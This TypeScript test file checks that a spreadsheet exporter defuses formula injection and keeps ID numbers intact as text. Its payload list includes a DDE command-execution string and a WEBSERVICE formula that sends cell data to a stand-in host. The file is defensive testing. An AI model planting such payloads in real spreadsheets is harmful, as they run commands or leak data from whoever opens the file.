import * as XLSX from '@e965/xlsx'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { expect, test } from 'vitest'
import { csvSafe, plainOfCsv, printable } from './formula-safe.ts'
import { OWN_LINES, SHEET_LIMIT, TooManyRows, type ExportStamp, type Sheet, type SheetRow, type Written } from './sheet.ts'
import { openSpool } from './spool.ts'
import { writeCsv } from './write-csv.ts'
import { writeXlsx } from './write-xlsx.ts'
import { readMark } from './zero-width-mark.ts'

const SEED = Number(process.env['SEED'] ?? 16)
const STAMP: ExportStamp = {
  id: '01890000-0000-7000-8000-00c0ffee1234',
  township: '火车站乡',
  who: '潘俊',
  at: '2020-02-12 17:20',
  purpose: '上报县指挥部',
  language: 'zh',
}

/** Every way a cell begins that some spreadsheet program has run (bar 16). */
const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '＝', '＋', '－', '＠', '  =', '\u3000=', '"=', "'=", '\u200b=', '\ufeff=']
const TAILS = [
  '1+1',
  `cmd|' /C calc'!A0`,
  'HYPERLINK("http://example.org","x")',
  'SUM(A1:A9)',
  '86 13900001111',
  '1.1E+17',
  `WEBSERVICE("http://example.org/"&A1)`,
]
const PAYLOADS = STARTS.flatMap((start) => TAILS.map((tail) => start + tail))
const PLAIN = [
  '张三',
  '曾㛃静',
  '欧阳𬭎',
  '𠮷田',
  '990199198001011234',
  '99019919800101123X',
  '013900001111',
  '00123',
  '13900001111',
  "'",
  "'=x",
  '',
  '幸福路，3号\n二楼',
  '"引号"',
  'a,b;c\td',
]

async function* asRows(values: readonly string[]): AsyncGenerator<SheetRow> {
  for (const [n, value] of values.entries()) yield [n + 1, value, value]
}

function sheetOf(values: readonly string[]): Sheet {
  const column = (zh: string, kind: 'text' | 'number') => ({ title: { zh, en: zh }, kind, width: 20 })
  return {
    title: { zh: '核查名单', en: 'List' },
    columns: [column('序号', 'number'), column('姓名', 'text'), column('证件号码', 'text')],
    rows: asRows(values),
  }
}

async function written(write: typeof writeCsv, sheet: Sheet): Promise<{ bytes: Buffer; result: Written }> {
  const out = new PassThrough()
  const [result, bytes] = await Promise.all([write(sheet, STAMP, out), buffer(out)])
  return { bytes, result }
}

function csvCells(bytes: Buffer): string[][] {
  return parse(bytes, { bom: true, relax_column_count: true })
}

function hashOf(rows: readonly (readonly string[])[]): string {
  return createHash('sha256')
    .update(rows.map((row) => `${JSON.stringify(row)}\n`).join(''))
    .digest('hex')
}

test('[X50] no field of a CSV file begins as a formula', async () => {
  const { bytes } = await written(writeCsv, sheetOf(PAYLOADS))
  const rows = csvCells(bytes).slice(2, -1)
  expect(rows).toHaveLength(PAYLOADS.length)
  for (const [, name] of rows) expect(name).toMatch(/^'/)
})

test('[X50] no cell of a workbook is a formula, and each is formatted as text', async () => {
  const { bytes } = await written(writeXlsx, sheetOf(PAYLOADS))
  const page = Object.values(XLSX.read(bytes, { cellFormula: true, cellNF: true }).Sheets)[0] ?? {}
  const cells = Object.entries(page).filter((entry): entry is [string, XLSX.CellObject] => !entry[0].startsWith('!'))
  expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([])
  const names = cells.filter(([address]) => /^B\d+$/.test(address) && Number(address.slice(1)) > 3 && Number(address.slice(1)) <= 3 + PAYLOADS.length)
  expect(names).toHaveLength(PAYLOADS.length)
  for (const [, cell] of names) expect(cell).toMatchObject({ t: 's', z: '@' })
})

test('[X51] numbers of documents, phones, zeros and rare names come back from both formats', async () => {
  const { bytes } = await written(writeCsv, sheetOf(PLAIN))
  expect(
    csvCells(bytes)
      .slice(2, -1)
      .map((row) => plainOfCsv(row[1] ?? '')),
  ).toEqual(PLAIN)
  const { bytes: book } = await written(writeXlsx, sheetOf(PLAIN))
  const page = Object.values(XLSX.read(book).Sheets)[0] ?? {}
  const rows = XLSX.utils.sheet_to_json<string[]>(page, { header: 1, raw: true, defval: '' }).slice(3, -1)
  expect(rows.map((row) => row[1])).toEqual(PLAIN)
})

test(`[X51] any text comes back from a CSV field as it can be printed (seed ${SEED})`, () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.tuple(fc.constantFrom(...STARTS, "'", "''", '0', '9901'), fc.string()).map((parts) => parts.join('')),
      ),
      (text) => plainOfCsv(csvSafe(text)) === printable(text),
    ),
    { seed: SEED, numRuns: 5000 },
  )
})

test('[X52] the file says who, when, what for, how many rows and their hash, and bears the mark of its export', async () => {
  for (const write of [writeCsv, writeXlsx]) {
    const { bytes, result } = await written(write, sheetOf(PLAIN))
    const page = write === writeXlsx ? Object.values(XLSX.read(bytes).Sheets)[0] : undefined
    const lines = page ? XLSX.utils.sheet_to_json<string[]>(page, { header: 1, raw: true, defval: '' }).slice(1) : csvCells(bytes)
    const head = lines[0]?.[0] ?? ''
    const tail = lines.at(-1)?.[0] ?? ''
    for (const said of ['火车站乡', '潘俊', '2020-02-12 17:20', '上报县指挥部']) expect(head).toContain(said)
    expect(readMark(head)).toBe('00c0ffee1234')
    expect(readMark(tail)).toBe('00c0ffee1234')
    expect(tail).toContain(`共 ${PLAIN.length} 行`)
    expect(tail).toContain(result.hash)
    expect(result).toEqual({ rows: PLAIN.length, hash: hashOf(PLAIN.map((value, n) => [String(n + 1), value, value])) })
  }
  expect(readMark('没有标记的一行')).toBeNull()
})

test('[X53] one row more than a worksheet holds is refused', async () => {
  const most = SHEET_LIMIT - OWN_LINES
  async function* many(n: number): AsyncGenerator<SheetRow> {
    for (let row = 0; row < n; row++) yield [null]
  }
  const sheet: Sheet = { title: { zh: '长表', en: 'Long' }, columns: [{ title: { zh: '空', en: 'Empty' }, kind: 'text', width: 4 }], rows: many(most + 1) }
  const out = new PassThrough()
  out.resume()
  await expect(writeCsv(sheet, STAMP, out)).rejects.toBeInstanceOf(TooManyRows)
})

test('[X54] what waits on the disk cannot be read there, and is gone once it was sent or given up', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'lianfang-spool-'))
  const before = process.env['TMPDIR']
  process.env['TMPDIR'] = folder
  try {
    await openSpool().drop()
    expect(readdirSync(folder)).toEqual([])
    const spool = openSpool()
    await writeCsv(sheetOf(['曾㛃静']), STAMP, spool.write)
    await spool.written
    const [file = ''] = readdirSync(folder)
    expect(readFileSync(join(folder, file)).includes('曾㛃静')).toBe(false)
    expect((await buffer(spool.read())).includes('曾㛃静')).toBe(true)
    await spool.drop()
    expect(readdirSync(folder)).toEqual([])
  } finally {
    if (before === undefined) delete process.env['TMPDIR']
    else process.env['TMPDIR'] = before
    rmSync(folder, { recursive: true, force: true })
  }
})

/** The spreadsheet programs of this machine: one, or none. */
const offices = ((): readonly string[] => {
  try {
    return [execFileSync('which', ['soffice'], { encoding: 'utf8' }).trim()]
  } catch {
    return []
  }
})()

/** LibreOffice opens what we wrote and saves it as flat XML, in which a formula is an attribute. `npm test` installs it in CI; where there is none there is no such test. */
test.each(offices)('[X50] [X51] LibreOffice finds no formula in 10,000 cells, and the same texts', { timeout: 120_000 }, async (soffice) => {
  const values = Array.from({ length: 3400 }, (_, n) => (n % 4 === 0 ? (PLAIN[n % PLAIN.length] ?? '') : (PAYLOADS[n % PAYLOADS.length] ?? '')))
  const folder = mkdtempSync(join(tmpdir(), 'lianfang-office-'))
  try {
    for (const [write, ending] of [
      [writeCsv, 'csv'],
      [writeXlsx, 'xlsx'],
    ] as const) {
      const { bytes } = await written(write, sheetOf(values))
      writeFileSync(join(folder, `list.${ending}`), bytes)
      const filter = ending === 'csv' ? ['--infilter=CSV:44,34,76,1'] : []
      execFileSync(
        soffice,
        ['--headless', `-env:UserInstallation=file://${folder}/profile`, ...filter, '--convert-to', 'fods', '--outdir', folder, join(folder, `list.${ending}`)],
        { stdio: 'ignore' },
      )
      const flat = readFileSync(join(folder, 'list.fods'), 'utf8')
      expect(flat.match(/table:formula=/g)).toBeNull()
      for (const number of ['990199198001011234', '013900001111', '00123']) {
        const cells = flat.match(new RegExp(`<table:table-cell[^>]*>\\s*<text:p>(?:<text:tab/>)?${number}</text:p>`, 'g')) ?? []
        expect(cells.length).toBeGreaterThan(0)
        for (const cell of cells) expect(cell).toContain('office:value-type="string"')
      }
    }
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
})
